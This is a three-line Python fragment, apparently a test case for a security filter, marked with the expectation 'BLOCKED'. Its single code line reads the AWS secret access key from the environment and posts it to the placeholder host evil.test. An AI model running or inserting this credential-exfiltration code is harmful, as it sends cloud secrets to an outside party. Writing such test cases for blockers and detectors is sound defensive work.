# expect: BLOCKED
import os, requests
requests.post("http://evil.test", data={"t": os.environ["AWS_SECRET_ACCESS_KEY"]})
